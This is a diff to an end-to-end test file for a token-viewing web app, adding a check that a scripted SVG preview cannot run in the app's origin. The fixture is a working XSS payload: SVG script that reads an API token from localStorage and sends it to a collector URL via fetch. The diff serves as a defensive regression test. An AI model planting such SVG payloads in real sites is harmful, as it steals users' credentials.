@@ -7,6 +7,22 @@ import { DESKTOP, DEV_ACCOUNTS, PHONE, openApp, screenshotPath, openSession, clo
 import { catPng, mintWith, tokenURI, wav } from './tokens.mjs'
 
 const PWN = 'window.__pwned=1'
+const API_TOKEN_KEY = 'minty.api_token'
+const STOLEN_KEY = 'minty.stolen'
+
+/// An SVG whose script, if it ever runs as a document in the app's origin,
+/// reads the API token, leaves it in localStorage, marks its window and
+/// sends it out: three traces, any one of which the test finds.
+function thiefSvg (stack) {
+  const steal = `
+    const token = localStorage.getItem(${JSON.stringify(API_TOKEN_KEY)});
+    localStorage.setItem(${JSON.stringify(STOLEN_KEY)}, String(token));
+    window.__pwned = 1;
+    fetch(${JSON.stringify(stack.storageUrl + '/__stolen?token=')} + encodeURIComponent(token)).catch(() => {});`
+  return `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" viewBox="0 0 64 48">` +
+    `<script><![CDATA[${steal}]]></script>` +
+    `<rect width="64" height="48" fill="crimson"/><circle cx="32" cy="24" r="16" fill="gold"/></svg>`
+}
 
 describe('token page: viewing a token', () => {
   let stack
@@ -42,6 +58,10 @@ describe('token page: viewing a token', () => {
         type: 'image/svg+xml'
       },
       metadata: (image) => ({ name: 'Scripted SVG', image })
+    })
+    tokens.thief = await mintWith(stack, {
+      asset: { name: 'thief.svg', bytes: Buffer.from(thiefSvg(stack)), type: 'image/svg+xml' },
+      metadata: (image) => ({ name: 'An SVG that steals', image })
     })
     tokens.page = await mintWith(stack, {
       asset: { name: 'page.html', bytes: Buffer.from(`<script>${PWN}</script>`), type: 'text/html' },
@@ -160,6 +180,41 @@ describe('token page: viewing a token', () => {
     assert.equal(await svg.evaluate(() => window.__pwned), undefined)
     assert.deepEqual(svg.pageErrors, [])
     await svg.context().close()
+  })
+
+  it('runs no script in the app\'s origin when a checked SVG preview is opened in a tab of its own', async () => {
+    const page = await openToken(tokens.thief.id)
+    await page.evaluate(([key]) => localStorage.setItem(key, 'secret-api-token'), [API_TOKEN_KEY])
+    await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
+    const preview = page.getByTestId('asset-image')
+    const src = await preview.getAttribute('src')
+    const verified = await page.getByTestId('asset-verified').getAttribute('data-verified')
+    await page.screenshot({ path: screenshotPath('token-svg-desktop'), fullPage: true })
+    // "Open image in new tab": the preview's own URL, in a tab of the same browser.
+    const requests = []
+    page.context().on('request', (request) => requests.push(request.url()))
+    const tab = await page.context().newPage()
+    await tab.goto(src)
+    await tab.waitForLoadState('load')
+    // A fetch the script started has had time to leave.
+    await tab.waitForTimeout(500)
+    const traces = {
+      window: await tab.evaluate(() => window.__pwned),
+      localStorage: await page.evaluate(([key]) => localStorage.getItem(key), [STOLEN_KEY]),
+      requests: requests.filter((url) => url.includes('/__stolen'))
+    }
+    assert.deepEqual(traces, { window: undefined, localStorage: null, requests: [] }, `the SVG's script ran from ${src}`)
+    // Either drawn to a picture from the checked bytes, or the gateway's own
+    // document, said to be unchecked: never the SVG as a blob of this origin.
+    if (src.startsWith('blob:')) {
+      assert.equal(verified, 'true')
+      assert.equal(await tab.evaluate(() => document.contentType), 'image/png')
+    } else {
+      assert.equal(src, `${stack.storageUrl}/ipfs/${tokens.thief.assetCid}/thief.svg`)
+      assert.equal(verified, 'false')
+    }
+    assert.deepEqual(page.pageErrors, [])
+    await page.context().close()
   })
 
   it('refuses metadata from a gateway that alters it, naming the CID', async () => {
